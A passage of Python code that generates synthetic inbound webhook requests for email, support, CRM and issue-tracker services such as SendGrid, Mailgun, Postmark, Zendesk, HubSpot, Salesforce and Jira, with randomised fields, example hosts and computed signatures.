             "sg_event_id": b64url(rbytes(16)), "sg_message_id": "%s.recvd-%s-%d-1-%s-1.0" % (b64url(rbytes(16)), alnum(9).lower(), R.randint(1, 9), upnum(8))}
        if et in ("open", "click"):
            e["useragent"] = g("useragent", pick(UAS_BROWSER + ["Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)"]))
            e["ip"] = pick(CLIENT_IPS)
        if et == "click":
            e["url"] = g("url", pick(["https://shop.example.com/sale?utm_source=newsletter&utm_campaign=feb26", "https://app.example.com/reset?token=" + alnum(32),
                                      "https://example.com/blog/how-we-cut-p99-by-40%25"]))
            e["url_offset"] = {"index": 0, "type": "html"}
        if et in ("bounce", "dropped", "deferred"):
            e["reason"] = g("reason", pick(["550 5.1.1 The email account that you tried to reach does not exist.", "Bounced Address",
                                             "451 4.7.1 Greylisted, please try again in 300 seconds"]))
            e["status"] = pick(["5.1.1", "4.7.1", "5.0.0"])
        if g("unique_args"):
            e.update(g("unique_args"))
        evs.append(e)
    body = J(evs)
    t = now()
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "SendGrid Event API"], ["Content-Type", "application/json"],
         ["X-Twilio-Email-Event-Webhook-Signature", b64(b"\x30\x45" + rbytes(69))], ["X-Twilio-Email-Event-Webhook-Timestamp", str(t)],
         ["Accept-Encoding", "gzip"]]
    return REQ("POST", g("uri", pick(["/webhooks/sendgrid/events", "/api/email/events"])), h, body)


# ================================================================ email
def html_email(kind, text, name, subject):
    t = hesc(text).replace("\n", "<br>")
    if kind == 0:  # Gmail reply
        return ('<div dir="ltr">%s<div><br></div><div>Best,</div><div>%s</div></div><br><div class="gmail_quote">'
                '<div dir="ltr" class="gmail_attr">On Tue, 3 Feb 2026 at 09:12, Support &lt;support@example.com&gt; wrote:<br></div>'
                '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">'
                'Hi %s,<br>thanks for reaching out! Could you send us your order number?<br><br>— Acme Support</blockquote></div>\r\n') % (t, hesc(name), hesc(name.split(" ")[0]))
    if kind == 1:  # Outlook
        return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" '
                'xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40"><head>'
                '<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="Generator" content="Microsoft Word 15 (filtered medium)">'
                '<style><!--\r\n/* Font Definitions */\r\n@font-face\r\n\t{font-family:"Cambria Math";\r\n\tpanose-1:2 4 5 3 5 4 6 3 2 4;}\r\n'
                'p.MsoNormal, li.MsoNormal, div.MsoNormal\r\n\t{margin:0cm;\r\n\tfont-size:11.0pt;\r\n\tfont-family:"Calibri",sans-serif;}\r\n--></style>'
                '<!--[if gte mso 9]><xml>\r\n<o:shapedefaults v:ext="edit" spidmax="1026" />\r\n</xml><![endif]--></head>'
                '<body lang="DE" link="#0563C1" vlink="#954F72" style="word-wrap:break-word"><div class="WordSection1">'
                '<p class="MsoNormal">%s<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p>'
                '<p class="MsoNormal">Mit freundlichen Grüßen / Kind regards<o:p></o:p></p><p class="MsoNormal"><b>%s</b><o:p></o:p></p>'
                '</div></body></html>\r\n') % (t, hesc(name))
    if kind == 2:  # transactional template with tables
        return ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">'
                '<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" />'
                '<meta name="viewport" content="width=device-width, initial-scale=1.0" /><title>%s</title>'
                '<style type="text/css">body{margin:0;padding:0;-webkit-text-size-adjust:100%%}table td{border-collapse:collapse}'
                '@media only screen and (max-width:600px){.container{width:100%% !important}}</style></head>'
                '<body style="margin:0;padding:0;background-color:#f4f4f7;font-family:Helvetica,Arial,sans-serif">'
                '<table role="presentation" width="100%%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f4f4f7"><tr><td align="center" style="padding:24px 0">'
                '<table class="container" role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:6px">'
                '<tr><td style="padding:32px 40px 8px 40px;font-size:20px;font-weight:bold;color:#333333">%s</td></tr>'
                '<tr><td style="padding:8px 40px 24px 40px;font-size:15px;line-height:22px;color:#51545e">%s</td></tr>'
                '<tr><td style="padding:0 40px 32px 40px"><a href="https://app.example.com/orders?ref=email" style="background:#3869d4;color:#ffffff;'
                'text-decoration:none;padding:10px 18px;border-radius:3px;display:inline-block">View order</a></td></tr>'
                '</table><p style="font-size:12px;color:#a8aaaf">Acme GmbH · Torstraße 12 · 10115 Berlin<br>'
                '<a href="https://example.com/unsubscribe?u=%s" style="color:#a8aaaf">Unsubscribe</a></p></td></tr></table>'
                '<img src="https://u123.ct.example.net/wf/open?upn=%s" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important" /></body></html>') % (
            hesc(subject), hesc(subject), t, alnum(24), b64url(rbytes(60)))
    return '<html><head></head><body><p>%s</p><p>-- <br>%s<br>Sent from my iPhone</p></body></html>' % (t, hesc(name))


ICS = ("BEGIN:VCALENDAR\r\nPRODID:-//Google Inc//Google Calendar 70.9054//EN\r\nVERSION:2.0\r\nCALSCALE:GREGORIAN\r\nMETHOD:REQUEST\r\n"
       "BEGIN:VEVENT\r\nDTSTART:20260212T090000Z\r\nDTEND:20260212T093000Z\r\nDTSTAMP:20260203T101500Z\r\n"
       "ORGANIZER;CN=Zoë Müller:mailto:zoe@example.com\r\nUID:%s@google.com\r\nSUMMARY:Onboarding call\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")

CSV = "order_id,sku,qty,price\r\n10482,TEE-M-GRY,2,29.00\r\n10482,CANDLE-FIG,1,24.50\r\n10483,\"MUG, blue\",4,12.00\r\n"

PNG_B64 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
PDF_B64 = b64("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def mail_common(g):
    name = g("from_name", pick(NAMES))
    frm = g("from_addr", email_for(name))
    subj = g("subject", pick(SUBJECTS))
    text = g("text", pick(MESSAGES))
    to = g("to", pick(["support@inbound.example.com", "tickets@parse.example.com", "reply+%s@reply.example.com" % hexs(16)]))
    html = g("html", html_email(R.randint(0, 3), text, name, subj))
    mid = "<%s@%s>" % (g("mid", alnum(20)), pick(["mail.gmail.com", "EUR03.prod.outlook.com", "example.com"]))
    return name, frm, subj, text, to, html, mid


def raw_headers(name, frm, to, subj, mid, t, extra=None):
    hs = [("Received", "from mail-ed1-f52.example.com (mail-ed1-f52.example.com [198.51.100.52]) by mx.example.com with ESMTPS id %s for <%s>; %s" % (alnum(10), to, httpdate(t).replace("GMT", "+0000"))),
          ("DKIM-Signature", "v=1; a=rsa-sha256; c=relaxed/relaxed; d=example.com; s=20230601; t=%d; x=%d; darn=inbound.example.com; h=to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to; bh=%s; b=%s" % (t, t + 604800, b64(rbytes(32)), b64(rbytes(180)))),
          ("MIME-Version", "1.0"), ("From", "%s <%s>" % (name, frm)), ("Date", httpdate(t).replace("GMT", "+0100")),
          ("Message-ID", mid), ("Subject", subj), ("To", to), ("Content-Type", 'multipart/alternative; boundary="%s"' % hexs(28))]
    if extra:
        hs += extra
    return hs


def sendgrid_inbound(f=None):
    f = f or {}
    g = f.get
    name, frm, subj, text, to, html, mid = mail_common(g)
    t = now()
    rh = raw_headers(name, frm, to, subj, mid, t, g("extra_headers"))
    atts = g("attachments", pick([[], [], [("invite.ics", ICS % hexs(26), "text/calendar")], [("orders.csv", CSV, "text/csv")]]))
    parts = [("headers", "\n".join("%s: %s" % kv for kv in rh) + "\n"), ("dkim", "{@example.com : pass}"),
             ("content-ids", "{}"), ("to", to), ("html", html), ("from", "%s <%s>" % (name, frm)), ("text", text + "\n"),
             ("sender_ip", pick(CLIENT_IPS)), ("envelope", J({"to": [to], "from": frm})), ("attachments", str(len(atts))),
             ("subject", subj), ("charsets", J({"to": "UTF-8", "html": "UTF-8", "subject": "UTF-8", "from": "UTF-8", "text": "UTF-8"})),
             ("SPF", "pass")]
    if atts:
        parts.append(("attachment-info", J({"attachment%d" % (i + 1): {"filename": a[0], "name": a[0], "type": a[2]} for i, a in enumerate(atts)})))
        for i, a in enumerate(atts):
            parts.append(("attachment%d" % (i + 1), a[1], a[0], a[2]))
    bnd = "xYzZY"
    body = multipart(parts, bnd)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Sendlib/1.0 inbound.sendgrid.net"], ["Content-Length", None],
         ["Content-Type", "multipart/form-data; boundary=" + bnd], ["Accept-Encoding", "gzip"]]
    return REQ("POST", g("uri", pick(["/webhooks/sendgrid/inbound", "/inbound/parse", "/api/email/inbound"])), h, body)


def mailgun(f=None):
    f = f or {}
    g = f.get
    name, frm, subj, text, to, html, mid = mail_common(g)
    t = now()
    token = hexs(50)
    atts = g("attachments", pick([[], [], [("orders.csv", CSV, "text/csv")], [("invite.ics", ICS % hexs(26), "text/calendar")]]))
    mh = [[k, v] for k, v in raw_headers(name, frm, to, subj, mid, t, g("extra_headers"))]
    parts = [("Content-Type", 'multipart/alternative; boundary="%s"' % hexs(28)), ("Date", httpdate(t)), ("Dkim-Signature", mh[1][1]),
             ("From", "%s <%s>" % (name, frm)), ("Message-Id", mid), ("Mime-Version", "1.0"), ("Received", mh[0][1]),
             ("Subject", subj), ("To", to), ("X-Envelope-From", "<%s>" % frm), ("X-Mailgun-Incoming", "Yes"),
             ("attachment-count", str(len(atts))), ("body-html", html), ("body-plain", text + "\r\n"),
             ("from", "%s <%s>" % (name, frm)), ("message-headers", J(mh, "spaced")), ("recipient", to), ("sender", frm),
             ("signature", mac("mg", "%d%s" % (t, token)).hexdigest()), ("stripped-html", html), ("stripped-signature", ""),
             ("stripped-text", text), ("subject", subj), ("timestamp", str(t)), ("token", token)]
    if g("message_url"):
        parts.append(("message-url", g("message_url")))
    for i, a in enumerate(atts):
        parts.append(("attachment-%d" % (i + 1), a[1], a[0], a[2]))
    bnd = hexs(32)
    body = multipart(parts, bnd)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "mailgun/treq-23.11.0"], ["Content-Length", None],
         ["Content-Type", "multipart/form-data; boundary=" + bnd], ["Accept-Encoding", "gzip"]]
    return REQ("POST", g("uri", pick(["/webhooks/mailgun/inbound", "/messages/inbound", "/api/mail/mailgun"])), h, body)


def postmark(f=None):
    f = f or {}
    g = f.get
    name, frm, subj, text, to, html, mid = mail_common(g)
    t = now()
    atts = g("attachments", pick([[], [], [{"Name": "receipt.pdf", "Content": PDF_B64, "ContentType": "application/pdf", "ContentLength": 240, "ContentID": ""}],
                                  [{"Name": "photo.png", "Content": PNG_B64, "ContentType": "image/png", "ContentLength": 68, "ContentID": "ii_%s" % alnum(10).lower()}]]))
    hdrs = [{"Name": "Return-Path", "Value": "<%s>" % frm}, {"Name": "Received", "Value": "by p-pm-inboundg02a-aws-useast1a (Postfix, from userid 996) id %s; %s" % (upnum(10), httpdate(t))},
            {"Name": "X-Spam-Checker-Version", "Value": "SpamAssassin 3.4.0 (2014-02-07) on p-pm-inboundg02a-aws-useast1a"},
            {"Name": "X-Spam-Status", "Value": "No"}, {"Name": "X-Spam-Score", "Value": "-0.1"},
            {"Name": "MIME-Version", "Value": "1.0"}, {"Name": "Message-ID", "Value": mid}] + [{"Name": k, "Value": v} for k, v in (g("extra_headers") or [])]
    p = {"FromName": name, "MessageStream": "inbound", "From": frm, "FromFull": {"Email": frm, "Name": name, "MailboxHash": ""},
         "To": "\"Support\" <%s>" % to, "ToFull": [{"Email": to, "Name": "Support", "MailboxHash": g("mailbox_hash", "")}], "Cc": g("cc", ""), "CcFull": [],
         "Bcc": "", "BccFull": [], "OriginalRecipient": to, "Subject": subj, "MessageID": uid(), "ReplyTo": g("reply_to", ""),
         "MailboxHash": g("mailbox_hash", ""), "Date": httpdate(t).replace("GMT", "+0100"), "TextBody": text, "HtmlBody": html,
         "StrippedTextReply": g("stripped", text.split("\n")[0]), "Tag": g("tag", ""), "Headers": hdrs, "Attachments": atts}
    body = J(p, "pretty2")
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Postmark"], ["Content-Type", "application/json"], ["Accept", "application/json"]]
    if chance(0.5):
        h.append(["Authorization", "Basic " + b64("postmark:" + alnum(20))])
    return REQ("POST", g("uri", pick(["/webhooks/postmark/inbound", "/api/inbound-email", "/hooks/postmark"])), h, body)


def postmark_bounce(f=None):
    f = f or {}
    g = f.get
    t = now()
    nm = pick(NAMES)
    p = {"RecordType": "Bounce", "ID": R.randint(10**9, 9 * 10**9), "Type": "HardBounce", "TypeCode": 1, "Name": "Hard bounce",
         "Tag": g("tag", "invoice"), "MessageID": uid(), "ServerID": R.randint(1000, 99999), "MessageStream": "outbound",
         "Description": "The server was unable to deliver your message (ex: unknown user, mailbox not found).",
         "Details": g("details", "smtp;550 5.1.1 The email account that you tried to reach does not exist."),
         "Email": g("email", email_for(nm)), "From": "billing@example.com", "BouncedAt": iso(t, frac=7), "DumpAvailable": True,
         "Inactive": True, "CanActivate": True, "Subject": g("subject", "Your invoice INV-%d" % R.randint(1000, 9999)),
         "Content": g("content", ""), "Metadata": g("metadata", {"customer_id": str(R.randint(1000, 99999))})}
    body = J(p, "pretty2")
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Postmark"], ["Content-Type", "application/json"]]
    return REQ("POST", g("uri", "/webhooks/postmark/bounce"), h, body)


# ======================================================= support / CRM / SaaS
def zendesk(f=None):
    f = f or {}
    g = f.get
    t = now()
    nm = g("requester_name", pick(NAMES))
    subj = g("subject", pick(SUBJECTS))
    desc = g("description", pick(MESSAGES))
    tid = R.randint(1000, 300000)
    if g("style", pick(["custom", "event"])) == "custom":
        p = {"ticket": {"id": tid, "url": "https://acme.zendesk.com/agent/tickets/%d" % tid, "subject": subj, "description": desc,
                        "status": pick(["new", "open", "pending"]), "priority": pick(["low", "normal", "high", "urgent"]),
                        "requester": {"name": nm, "email": g("requester_email", email_for(nm)), "phone": g("phone", "")},
                        "tags": g("tags", pick(["billing refund", "shipping", "login 2fa", ""])),
                        "latest_comment_html": g("comment_html", "<div class=\"zd-comment\" dir=\"auto\"><p dir=\"auto\">%s</p></div>" % hesc(desc)),
                        "via": pick(["Mail", "Web form", "Chat", "API"]), "organization": g("org", pick(["Acme GmbH", "Zoë Ceramics", "", "Müller & Söhne KG"])),
                        "custom_fields": g("custom_fields", {"order_number": str(R.randint(10000, 99999))})}}
    else:
        p = {"account_id": R.randint(10**6, 10**7), "detail": {"actor_id": str(R.randint(10**10, 10**12)), "assignee_id": None, "brand_id": str(R.randint(10**10, 10**12)),
                                                          "created_at": iso(t), "custom_status": str(R.randint(10**10, 10**12)), "description": desc, "external_id": g("external_id"),
                                                          "form_id": str(R.randint(10**10, 10**12)), "group_id": None, "id": str(tid), "is_public": True,
                                                          "organization_id": None, "priority": "NORMAL", "requester_id": str(R.randint(10**10, 10**12)),
                                                          "status": "NEW", "subject": subj, "submitter_id": str(R.randint(10**10, 10**12)), "tags": [],
                                                          "type": "QUESTION", "updated_at": iso(t), "via": {"channel": "mail"}},
             "event": {"comment": {"author": {"id": str(R.randint(10**10, 10**12)), "is_staff": False, "name": nm},
                                   "body": g("comment_body", desc), "id": str(R.randint(10**10, 10**12)), "is_public": True}} if chance(0.5) else {},
             "id": uid(), "subject": "zen:ticket:%d" % tid, "time": iso(t, frac=9), "type": "zen:event-type:ticket.created", "zendesk_event_version": "2022-11-06"}
    body = J(p, htmlesc=chance(0.5))
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Zendesk Webhook"], ["Content-Type", "application/json; charset=utf-8"],
         ["X-Zendesk-Account-Id", str(R.randint(10**6, 10**7))], ["X-Zendesk-Webhook-Id", digits(19)], ["X-Zendesk-Webhook-Invocation-Id", digits(19)],
         ["X-Zendesk-Webhook-Signature-Timestamp", iso(t)], ["X-Zendesk-Webhook-Signature", b64(mac("zd", iso(t) + body).digest())]]
    return REQ("POST", g("uri", pick(["/webhooks/zendesk", "/api/zendesk/tickets", "/integrations/zendesk/events"])), h, body)


def intercom(f=None):
    f = f or {}
    g = f.get
    t = now()
    nm = g("name", pick(NAMES))
    topic = g("topic", pick(["conversation.user.created", "conversation.user.replied", "contact.user.created", "conversation.admin.replied"]))
    author = {"type": "user", "id": hexs(24), "name": nm, "email": g("email", email_for(nm))}
    body_html = g("body_html", "<p>%s</p>" % hesc(pick(MESSAGES)).replace("\n", "</p><p>"))
    if topic.startswith("contact"):
        item = {"type": "contact", "id": hexs(24), "workspace_id": alnum(8).lower(), "external_id": g("external_id", str(R.randint(1, 99999))),
                "role": "user", "email": author["email"], "name": nm, "avatar": {"type": "avatar", "image_url": g("avatar", None)},
                "custom_attributes": g("custom_attributes", {"plan": pick(["free", "pro"]), "company_size": pick(["1-10", "11-50"])}),
                "location": {"type": "location", "country": "Germany", "city": g("city", "Berlin")}, "created_at": t}
    else:
        item = {"type": "conversation", "id": digits(12), "created_at": t, "updated_at": t, "title": g("title"),
                "source": {"type": "conversation", "id": digits(10), "delivered_as": "customer_initiated", "subject": g("subject", ""),
                           "body": body_html, "author": author, "attachments": g("attachments", []), "url": g("url", "https://app.example.com/settings/billing")},
                "contacts": {"type": "contact.list", "contacts": [{"type": "contact", "id": hexs(24), "external_id": str(R.randint(1, 9999))}]},
                "state": "open", "open": True, "read": False, "priority": "not_priority",
                "conversation_parts": {"type": "conversation_part.list", "conversation_parts": [] if "created" in topic else [
                    {"type": "conversation_part", "id": digits(11), "part_type": "comment", "body": g("reply_html", body_html), "created_at": t,
                     "author": author if "user" in topic else {"type": "admin", "id": digits(7), "name": "Renée (Support)", "email": "renee@example.com"}}],
                    "total_count": 0 if "created" in topic else 1}}
    p = {"type": "notification_event", "app_id": alnum(8).lower(), "data": {"type": "notification_event_data", "item": item},
         "links": {}, "id": "notif_" + uid(), "topic": topic, "delivery_status": "pending", "delivery_attempts": g("attempts", 1),
         "delivered_at": 0, "first_sent_at": t, "created_at": t, "self": None}
    body = J(p, htmlesc=True)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "intercom-parrot-service-client/1.0"], ["Content-Type", "application/json"],
         ["X-Hub-Signature", "sha1=" + mac("ic", body, "sha1").hexdigest()], ["Accept", "application/json"]]
    return REQ("POST", g("uri", pick(["/webhooks/intercom", "/api/intercom/notifications"])), h, body)


def freshdesk(f=None):
    f = f or {}
    g = f.get
    nm = g("requester_name", pick(NAMES))
    tid = R.randint(1, 90000)
    p = {"freshdesk_webhook": {"ticket_id": tid, "ticket_subject": g("subject", pick(SUBJECTS)),
                               "ticket_description": g("description_html", "<div>%s</div>" % hesc(pick(MESSAGES)).replace("\n", "<br>")),
                               "ticket_url": "https://acme.freshdesk.com/helpdesk/tickets/%d" % tid, "ticket_portal_url": "https://support.example.com/support/tickets/%d" % tid,
                               "ticket_due_by_time": "Feb %d 2026 at 5:00 PM" % R.randint(1, 28), "ticket_status": pick(["Open", "Pending", "Resolved"]),
                               "ticket_priority": pick(["Low", "Medium", "High", "Urgent"]), "ticket_source": pick(["Email", "Portal", "Phone"]),
                               "ticket_requester_name": nm, "ticket_requester_email": g("requester_email", email_for(nm)),
                               "ticket_requester_phone": g("phone", ""), "ticket_company_name": g("company", pick(["", "Acme GmbH", "Côté & Fils"])),
                               "ticket_tags": g("tags", pick(["", "refund", "vip,shipping"])), "ticket_latest_public_comment": g("comment", ""),
                               "ticket_cf_order_number": g("cf_order", str(R.randint(10000, 99999)))}}
    body = J(p, "spaced")
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Freshdesk"], ["Content-Type", "application/json"],
         ["Authorization", "Basic " + b64("freshdesk:" + alnum(16))]]
    return REQ("POST", g("uri", pick(["/webhooks/freshdesk", "/api/freshdesk/ticket"])), h, body)


def hubspot(f=None):
    f = f or {}
    g = f.get
    t = now()
    evs = []
    for i in range(g("n", R.randint(1, 4))):
        st = pick(["contact.propertyChange", "contact.creation", "deal.propertyChange", "company.propertyChange", "contact.privacyDeletion"])
        e = {"eventId": R.randint(10**8, 4 * 10**9), "subscriptionId": R.randint(10**5, 10**7), "portalId": R.randint(10**5, 10**8),
             "appId": R.randint(10**5, 10**7), "occurredAt": t * 1000 + R.randint(0, 999), "subscriptionType": g("stype", st),
             "attemptNumber": g("attempt", 0), "objectId": g("objectId", R.randint(100, 9 * 10**10)), "changeFlag": "NEW" if "creation" in st else None,
             "changeSource": pick(["CRM_UI", "API", "FORM", "IMPORT", "INTEGRATION"]), "sourceId": g("sourceId", "userId:%d" % R.randint(10**6, 10**8))}
        if "propertyChange" in e["subscriptionType"]:
            prop, val = pick([("firstname", pick(NAMES).split(" ")[0]), ("lifecyclestage", "customer"), ("dealstage", "closedwon"),
                              ("company", pick(["Acme GmbH", "Müller & Söhne KG", "O'Reilly Media"])), ("amount", "12500"),
                              ("message", pick(FREE_TEXT)), ("jobtitle", pick(["Head of IT", "CTO", "Einkauf"])), ("phone", "+49 89 123456")])
            e["propertyName"] = g("propertyName", prop)
            e["propertyValue"] = g("propertyValue", val)
        if i == 0 and g("propertyValue") is not None:
            e["subscriptionType"] = "contact.propertyChange"
            e["propertyName"] = g("propertyName", "firstname")
            e["propertyValue"] = g("propertyValue")
        e = {k: v for k, v in e.items() if v is not None}
        evs.append(e)
    body = J(evs)
    host = g("host", pick(HOSTS))
    uri = g("uri", pick(["/webhooks/hubspot", "/api/hubspot/events"]))
    h = [["Host", host], ["User-Agent", "HubSpot Connect 2.0 (http://dev.hubspot.com/) - WebhooksExecutorDaemon-executor"],
         ["Content-Type", "application/json"], ["X-HubSpot-Signature", hashlib.sha256(("hs" + body).encode()).hexdigest()],
         ["X-HubSpot-Signature-Version", "v3"],
         ["X-HubSpot-Signature-v3", b64(mac("hs", "POSThttps://%s%s%s%d" % (host, uri, body, t * 1000)).digest())],
         ["X-HubSpot-Request-Timestamp", str(t * 1000)], ["X-HubSpot-Timeout-Millis", "10000"]]
    return REQ("POST", uri, h, body)


SF_OBJECTS = [("Opportunity", [("Name", "Acme GmbH – Enterprise renewal 2026"), ("StageName", "Closed Won"), ("Amount", "125000.0"), ("CloseDate", "2026-02-27")]),
              ("Lead", [("FirstName", "Zoë"), ("LastName", "Müller"), ("Company", "Müller & Söhne KG"), ("Email", "zoe@example.com"), ("LeadSource", "Web")]),
              ("Case", [("Subject", "Portal login fails after SSO change"), ("Status", "New"), ("Priority", "High"), ("Origin", "Email")]),
              ("Contact", [("FirstName", "Siobhán"), ("LastName", "O'Brien"), ("Email", "siobhan@example.org"), ("Title", "Procurement")]),
              ("Account", [("Name", "Côté & Fils Ltée"), ("BillingCity", "Montréal"), ("Industry", "Manufacturing")])]


def salesforce(f=None):
    f = f or {}
    g = f.get
    org = "00D" + alnum(12)
    obj, fields = pick(SF_OBJECTS)
    obj = g("object", obj)
    fields = g("fields", fields)
    fx = "".join("<sf:%s>%s</sf:%s>" % (k, v if g("raw_values") else xesc(v), k) for k, v in fields)
    prolog = g("prolog", '<?xml version="1.0" encoding="UTF-8"?>')
    body = ('%s\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">\n <soapenv:Body>\n  <notifications xmlns="http://soap.sforce.com/2005/09/outbound">\n'
            '   <OrganizationId>%s</OrganizationId>\n   <ActionId>04k%s</ActionId>\n   <SessionId xsi:nil="true"/>\n'
            '   <EnterpriseUrl>%s</EnterpriseUrl>\n   <PartnerUrl>https://acme.my.salesforce.com/services/Soap/u/60.0/%s</PartnerUrl>\n'
            '   <Notification>\n    <Id>04l%s</Id>\n    <sObject xsi:type="sf:%s" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">\n'
            '     <sf:Id>%s</sf:Id>\n     %s\n    </sObject>\n   </Notification>\n  </notifications>\n </soapenv:Body>\n</soapenv:Envelope>') % (
        prolog, org, alnum(12), g("enterprise_url", "https://acme.my.salesforce.com/services/Soap/c/60.0/" + org), org[:15], alnum(12), obj, "006" + alnum(12), fx)
    h = [["Host", g("host", pick(HOSTS))], ["Content-Type", "text/xml; charset=utf-8"], ["Accept", "text/xml"],
         ["User-Agent", "Jakarta Commons-HttpClient/3.1"], ["SOAPAction", "\"\""], ["Content-Length", None]]
    return REQ("POST", g("uri", pick(["/salesforce/outbound", "/api/sfdc/notify", "/ws/sf-outbound-message"])), h, body)


def jira(f=None):
    f = f or {}
    g = f.get
    t = now()
    ev = g("event", pick(["jira:issue_created", "jira:issue_updated", "comment_created", "jira:issue_updated"]))
    nm = g("display_name", pick(NAMES))
    user = {"self": "https://acme.atlassian.net/rest/api/2/user?accountId=712020:%s" % uid(), "accountId": "712020:" + uid(),
            "avatarUrls": {"48x48": g("avatar", "https://secure.gravatar.com/avatar/%s?d=https%%3A%%2F%%2Favatar-management--avatars.us-west-2.prod.public.atl-paas.net%%2Finitials%%2FZM-4.png" % hexs(32))},
            "displayName": nm, "active": True, "timeZone": "Europe/Berlin", "accountType": "atlassian"}
    key = g("key", "%s-%d" % (pick(["PAY", "WEB", "OPS", "SUP"]), R.randint(1, 4000)))
    issue = {"id": str(R.randint(10000, 99999)), "self": "https://acme.atlassian.net/rest/api/2/%d" % R.randint(10000, 99999), "key": key,
             "fields": {"summary": g("summary", pick(SUBJECTS + PR_TITLES)), "description": g("description", pick(MESSAGES + [PR_BODIES[0], PR_BODIES[5]])),
                        "issuetype": {"name": pick(["Bug", "Story", "Task", "Incident"])}, "priority": {"name": pick(["Medium", "High", "Highest"])},
                        "status": {"name": pick(["To Do", "In Progress", "Done"])}, "labels": g("labels", pick([[], ["customer-reported"], ["tech-debt", "q1"]])),
                        "reporter": user, "assignee": None, "created": iso(t, ms=True, z=False).replace("+00:00", "+0000"),
                        "customfield_10020": g("cf", None), "environment": g("environment", None)}}
    p = {"timestamp": t * 1000 + R.randint(0, 999), "webhookEvent": ev, "user": user, "issue": issue}
    if ev == "jira:issue_updated":
        p["issue_event_type_name"] = "issue_generic"
        p["changelog"] = {"id": str(R.randint(10000, 99999)), "items": [{"field": "status", "fieldtype": "jira", "from": "10000", "fromString": "To Do",
                                                                          "to": "3", "toString": "In Progress"}]}
    if ev.startswith("comment") or chance(0.3):
        p["comment"] = {"self": "https://acme.atlassian.net/rest/api/2/issue/%s/comment/%d" % (issue["id"], R.randint(10000, 99999)), "id": str(R.randint(10000, 99999)),
                        "author": user, "body": g("comment", pick(COMMENTS)), "updateAuthor": user, "created": issue["fields"]["created"], "jsdPublic": True}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", g("ua", "Atlassian Webhook HTTP Client")], ["Content-Type", "application/json; charset=UTF-8"],
         ["X-Atlassian-Webhook-Identifier", digits(13)], ["X-Atlassian-Webhook-Retry", str(g("retry", 0))],
         ["X-Hub-Signature", "sha256=" + mac("jira", body).hexdigest()], ["Accept", "*/*"]]
    return REQ("POST", g("uri", pick(["/webhooks/jira", "/rest/jira-hook", "/api/jira/events?project=${project.key}".replace("${project.key}", key.split("-")[0])])), h, body)


def confluence(f=None):
    f = f or {}
    g = f.get
    t = now()
    p = {"timestamp": t * 1000, "userAccountId": "712020:" + uid(), "accountType": "customer", "updateTrigger": g("trigger", "edit_page"), "suppressNotifications": False,
         "page": {"id": R.randint(10**6, 10**9), "spaceKey": g("space", pick(["ENG", "OPS", "HR", "SALES"])), "contentType": "page",
                  "creatorAccountId": "712020:" + uid(), "lastModifierAccountId": "712020:" + uid(),
                  "self": "https://acme.atlassian.net/wiki/spaces/ENG/pages/%d" % R.randint(10**6, 10**9),
                  "title": g("title", pick(["Runbook: Redis failover", "Q1 OKRs 🎯", "Onboarding – Erste Woche", "Postmortem 2026-02-11 checkout latency",
                                            "RFC: Move scheduler to UTC", "Meeting notes 2026-02-03"])),
                  "creationDate": (t - 86400) * 1000, "modificationDate": t * 1000, "version": R.randint(1, 40)}}
    body = J(p)
    h = [["Host", g("host", pick(HOSTS))], ["User-Agent", "Atlassian Webhook HTTP Client"], ["Content-Type", "application/json; charset=UTF-8"],
         ["X-Atlassian-Webhook-Identifier", digits(13)], ["X-Atlassian-Webhook-Retry", "0"]]
    return REQ("POST", g("uri", pick(["/webhooks/confluence", "/api/confluence/page_updated"])), h, body)


def linear(f=None):
    f = f or {}
    g = f.get
    t = now()
    typ = g("type", pick(["Issue", "Issue", "Comment", "Project"]))
    nm = g("actor_name", pick(NAMES))
    ident = "%s-%d" % (pick(["ENG", "PAY", "DES"]), R.randint(1, 3000))
    if typ == "Issue":
        data = {"id": uid(), "createdAt": iso(t, ms=True), "updatedAt": iso(t, ms=True), "number": int(ident.split("-")[1]),
                "title": g("title", pick(PR_TITLES + SUBJECTS)), "description": g("description", pick(PR_BODIES + MESSAGES)),
                "priority": R.randint(0, 4), "estimate": pick([None, 1, 2, 3, 5]), "boardOrder": 0, "sortOrder": R.random() * -1000,
